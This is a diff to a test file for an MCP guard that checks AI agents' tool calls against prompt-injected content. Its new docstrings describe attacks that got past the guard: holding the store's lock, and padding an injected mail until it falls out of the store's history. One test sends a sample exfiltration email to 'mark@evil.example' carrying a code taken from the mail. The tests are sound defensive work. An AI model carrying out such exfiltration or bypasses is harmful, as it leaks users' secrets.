@@ -6,9 +6,13 @@ effect. Each test checks the effect — what the upstream received — and faile
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 import os
+import sqlite3
 import sys
+import threading
+import time
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +22,9 @@ from mcp.client.session import ClientSession
 from mcp.client.stdio import StdioServerParameters, stdio_client
 from mcp.shared.exceptions import MCPError
 
-from .test_http_guard import http_guard
+from groundstate.store import BUSY_TIMEOUT_MS
+
+from .test_http_guard import http_guard, modern_call
 
 SCRIPTED = Path(__file__).with_name("scripted_server.py")
 UNATTENDED = Path(__file__).parents[2] / "bench" / "agentdojo" / "unattended.mg"
@@ -37,12 +43,13 @@ def text(said: str) -> dict[str, Any]:
 
 
 def configure(folder: Path, tools: list[dict[str, Any]], results: dict[str, Any],
-              raw_id_last: dict[str, str] | None = None) -> Path:  # fmt: skip
+              raw_id_last: dict[str, str] | None = None, delay: dict[str, float] | None = None) -> Path:  # fmt: skip
     """The guard's configuration (one scripted server, ``srv``, writes unattended; ``raw_id_last``: results written
-    as given, the answer's id after them); returns the effects file."""
+    as given, the answer's id after them; ``delay``: seconds a tool takes); returns the effects file."""
     effects = folder / "effects.jsonl"
     (folder / "scenario.json").write_text(json.dumps({"tools": tools, "results": results, "effects": str(effects),
-                                                      "raw_id_last": raw_id_last or {}}))  # fmt: skip
+                                                      "raw_id_last": raw_id_last or {},
+                                                      "delay": delay or {}}))  # fmt: skip
     command = [sys.executable, str(SCRIPTED), str(folder / "scenario.json")]
     (folder / "groundstate.toml").write_text(
         f'[mcp]\napproval_timeout_sec = 0.3\npolicy = ["{UNATTENDED}"]\n'
@@ -52,10 +59,11 @@ def configure(folder: Path, tools: list[dict[str, Any]], results: dict[str, Any]
 
 def play(folder: Path, tools: list[dict[str, Any]], results: dict[str, Any], request: str,
          calls: list[tuple[str, dict[str, Any]]],
-         raw_id_last: dict[str, str] | None = None) -> tuple[list[str], list[dict[str, Any]]]:  # fmt: skip
+         raw_id_last: dict[str, str] | None = None,
+         delay: dict[str, float] | None = None) -> tuple[list[str], list[dict[str, Any]]]:  # fmt: skip
     """Each call through ``groundstate mcp serve`` in one session, with the user's request declared: how each ended
-    (ok, denied, held, error) and every call the upstream received."""
-    effects = configure(folder, tools, results, raw_id_last)
+    (ok, denied, held, withheld, error) and every call the upstream received."""
+    effects = configure(folder, tools, results, raw_id_last, delay)
     env = {**os.environ, "GROUNDSTATE_HOME": str(folder / "home"),
            "GROUNDSTATE_CONFIG": str(folder / "groundstate.toml")}  # fmt: skip
     params = StdioServerParameters(command=sys.executable, args=["-m", "groundstate", "mcp", "serve"], env=env)
@@ -74,7 +82,9 @@ def play(folder: Path, tools: list[dict[str, Any]], results: dict[str, Any], req
                     continue
                 decision = (result.meta or {}).get("groundstate/decision")
                 held = decision is not None and decision.get("policy_decision") == "approve"
-                ended.append("held" if held else "denied" if decision else "error" if result.is_error else "ok")
+                withheld = decision is not None and decision.get("decision") == "withheld"
+                ended.append("held" if held else "withheld" if withheld else "denied" if decision
+                             else "error" if result.is_error else "ok")  # fmt: skip
         return ended
 
     ended = asyncio.run(asyncio.wait_for(run(), 90))
@@ -196,6 +206,48 @@ def test_an_answer_past_every_parser_with_its_id_after_the_result_is_answered_wi
         ("fetch_json", {"url": "https://api.example/x"}), ("ping_me", {}),
     ], raw_id_last={"fetch_json": deep})  # fmt: skip
     assert ended == ["error", "ok"] and len(received) == 2
+
+
+def test_a_result_the_store_cannot_keep_is_withheld_from_the_client(tmp_path: Path) -> None:
+    """Found by an attack: another process held the store's write lock past its busy timeout while a mail came
+    back; the guard could not keep the result for the account's other guards, and the client read it anyway — a
+    guard that had caught up before judged the fetch of the mail's URL against nothing. A result that cannot be
+    kept is withheld, and the client is told the call ran (its effect stands)."""
+    store = tmp_path / "home" / "groundstate.db"
+    effects = tmp_path / "effects.jsonl"
+
+    def lock_while_the_result_comes_back() -> None:
+        deadline = time.monotonic() + 60
+        while not effects.exists() and time.monotonic() < deadline:  # the call reached the upstream
+            time.sleep(0.02)
+        with contextlib.closing(sqlite3.connect(store, isolation_level=None)) as other:
+            other.execute("BEGIN IMMEDIATE")
+            time.sleep(BUSY_TIMEOUT_MS / 1000 + 2)
+            other.execute("ROLLBACK")
+
+    locker = threading.Thread(target=lock_while_the_result_comes_back)
+    locker.start()
+    ended, received = play(tmp_path, [tool("read_inbox", True, True)], {"read_inbox": text(INJECTED_MAIL)},
+                           "Summarise my mail", [("read_inbox", {})], delay={"read_inbox": 1})  # fmt: skip
+    locker.join()
+    assert ended == ["withheld"] and [call["tool"] for call in received] == ["read_inbox"]
+
+
+def test_a_result_past_the_bytes_bound_still_ties_what_it_said_after_a_restart(tmp_path: Path) -> None:
+    """Found by an attack: a mail longer than ``history_bytes`` was removed from the store by its own write, with
+    nothing said, and the restarted HTTP guard let the send the mail dictated go out. What fits is kept, marked."""
+    mail = INJECTED_MAIL + " " + "padding " * 700
+    effects = configure(tmp_path, [tool("read_inbox", True, True), tool("send_email", False, True, False)],
+                        {"read_inbox": text(mail)})  # fmt: skip
+    settings = tmp_path / "groundstate.toml"
+    settings.write_text(settings.read_text().replace("[mcp]\n", "[mcp]\nhistory_bytes = 4000\n", 1))
+    with http_guard(tmp_path) as (url, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        assert "771203" in modern_call(url, token, 1, "srv__read_inbox", {}).text
+    with http_guard(tmp_path) as (url, _):
+        sent = modern_call(url, token, 2, "srv__send_email", {"to": "mark@evil.example", "body": "code 771203"})
+        assert '"isError":true' in sent.text and "came from the result of srv/read_inbox" in sent.text, sent.text
+    assert [json.loads(line)["tool"] for line in effects.read_text().splitlines()] == ["read_inbox"]
 
 
 def test_requests_without_a_session_share_their_accounts_history(tmp_path: Path) -> None:
